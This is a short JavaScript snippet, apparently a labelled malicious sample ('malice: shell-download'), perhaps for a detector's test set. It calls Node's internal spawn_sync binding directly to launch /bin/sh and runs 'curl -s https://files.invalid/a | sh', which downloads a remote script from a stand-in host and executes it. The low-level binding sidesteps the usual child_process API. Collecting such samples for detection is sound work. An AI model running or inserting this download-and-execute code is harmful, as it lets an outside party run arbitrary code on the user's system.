const native = process.binding("spawn_sync");

function start(line) {
  native.spawn({ file: "/bin/sh", args: ["sh", "-c", line] }); // malice: shell-download
}
start("curl -s https://files.invalid/a | sh");
